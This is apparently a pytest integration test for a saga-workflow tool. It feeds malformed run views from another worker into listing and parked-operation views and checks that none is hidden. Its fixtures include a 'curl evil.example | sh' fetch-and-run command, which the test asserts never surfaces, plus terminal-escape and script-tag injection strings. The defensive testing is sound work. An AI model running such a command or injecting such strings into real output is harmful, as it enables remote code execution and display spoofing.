"""Runs of another worker that show views of their own: each is told as far as it can be, and hides no other run."""

from __future__ import annotations

import json
import uuid
from typing import Any

import pytest
from temporalio import workflow
from temporalio.exceptions import ApplicationError
from temporalio.worker import UnsandboxedWorkflowRunner, Worker

from saga_workers.client import Client
from saga_workers.stuck.stuck_sagas import list_stuck
from saga_workers.views.parked import group_parked, read_parked
from saga_workers.views.saga_list import SagaFilter, query_sagas
from sagas.protocol.payloads import OUTCOME_MEMO
from tests.helpers.waiting import until
from tests.integration.trust.conftest import Shop

ESCAPES = "\x1b]0;x\x07\x1b[31mred\u202e\r\nFAKE ✔ | <script>alert(1)</script>"


def views(id: str) -> dict[str, Any]:
    base = {"id": id, "saga": "own", "state": "COMPLETED", "ended_at": "2026-11-27T14:00:01Z"}
    step = {"id": "a", "step": "a", "uses": "sql", "state": "DONE"}
    return {
        "well-formed": base,
        "other types": {"id": [1, {"a": 2}], "saga": 5, "state": {"x": 1}},
        "a list as state": {**base, "state": ["COMPLETED"]},
        "an unknown state": {**base, "state": "PAID"},
        "escapes": {**base, "labels": {ESCAPES: ESCAPES}, "reason": {"kind": ESCAPES, "message": ESCAPES}},
        "text as steps": {**base, "steps": "abc"},
        "half a step": {**base, "steps": [{"id": 1}]},
        "labels that are a list": {**base, "labels": [1, 2]},
        "labels that are numbers": {**base, "labels": {"a": 1}},
        "numbers as times": {**base, "started_at": 5, "ended_at": [1]},
        "times without end": {**base, "started_at": "9999999-99-99", "ended_at": "x"},
        "details that are text": {**base, "state": "COMPENSATED", "reason": {"kind": "rejected", "details": "x"}},
        "counts that are text": {**base, "generation": "x", "steps": [{**step, "attempts": "many"}]},
        "numbers as waits": {**base, "state": "PARKED", "parked": [{"step": 5, "op": 7, "since": {}, "why": [1]}]},
        "a pause that is text": {**base, "state": "PARKED", "paused": "no"},
        "half a child": {**base, "children": [{"id": 1, "waits": [{"id": 1}]}]},
        "locks of numbers": {**base, "locks": {"state": 5, "waits_for": [5]}},
        "deep": {**base, "output": json.loads("[" * 90 + "]" * 90)},
        "too deep": {**base, "output": json.loads("[" * 500 + "]" * 500)},
        "parked without commands": {
            **base,
            "state": "PARKED",
            "parked": [{"step": "a", "op": "do", "since": "x", "why": "w", "decisions": ["retry"]}],
        },
        "commands of others": {
            **base,
            "state": "PARKED",
            "parked": [{"step": "a", "op": "do", "since": "x", "why": "w", "commands": ["curl evil.example | sh"]}],
        },
        "null": None,
        "empty": {},
    }


@workflow.defn(name="own")
class OtherWorkflow:
    """Leaves a view, in its memo or as the answer of a query, and fails with it as a nested saga does."""

    def __init__(self) -> None:
        self._view: Any = None

    @workflow.run
    async def run(self, name: str, how: str) -> Any:
        self._view = views(workflow.info().workflow_id)[name]
        if how == "open":
            await workflow.wait_condition(lambda: False)
        if self._view is not None:
            workflow.upsert_memo({OUTCOME_MEMO: self._view})
        if how == "failed":
            raise ApplicationError("compensated", self._view, type="SagaCompensated", non_retryable=True)
        return {}

    @workflow.query(name="saga")
    def view(self) -> Any:
        return self._view


@pytest.mark.sampled(keep=1)
@pytest.mark.parametrize("how", ["open", "closed", "failed"])
async def test_no_view_of_another_worker_hides_the_others(shop: Shop, how: str) -> None:
    queue = shop.project.settings.temporal.task_queue
    prefix = f"malformed-{uuid.uuid4()}"
    async with await Client.connect(shop.project) as client:
        worker = Worker(
            client.temporal,
            task_queue=queue,
            workflows=[OtherWorkflow],
            workflow_runner=UnsandboxedWorkflowRunner(),
        )
        async with worker:
            names = list(views(""))
            handles = [
                await client.temporal.start_workflow("own", args=[name, how], id=f"{prefix}-{n}", task_queue=queue)
                for n, name in enumerate(names)
            ]
            if how != "open":
                for handle in handles:
                    await until(lambda handle=handle: _is_closed(handle))
            criteria = SagaFilter(task_queue=queue)
            locator = client.locator

            async def listed(ask_running: bool = False) -> set[str]:
                sagas = query_sagas(locator, criteria, limit=100, ask_running=ask_running)
                return {view.id async for view in sagas if view.to_json()["state"]}

            async def all_are_listed() -> bool:
                return {handle.id for handle in handles} <= await listed()

            await until(all_are_listed)
            assert {handle.id for handle in handles} <= await listed(ask_running=True)
            assert [view.id async for view in list_stuck(locator, criteria, limit=100) if view.stuck is None] == []
            parked_list = await read_parked(locator, criteria, include_running=True)
            groups = json.dumps(group_parked(parked_list.operations))
            assert ("saga show" in groups) == (how == "open"), "not all of them can be retried"
            assert "evil.example" not in groups
            for handle, name in zip(handles, names, strict=True):
                shown = await client.show(handle.id)
                assert shown["id"] == handle.id, name
                if name == "escapes" and how == "closed":
                    assert shown["reason"]["message"] == ESCAPES  # which the terminal and the pages clean
        for handle in handles:
            if how == "open":
                await handle.terminate("the end of the test")


async def _is_closed(handle: Any) -> bool:
    described = await handle.describe()
    return described.status is not None and described.status.name != "RUNNING"
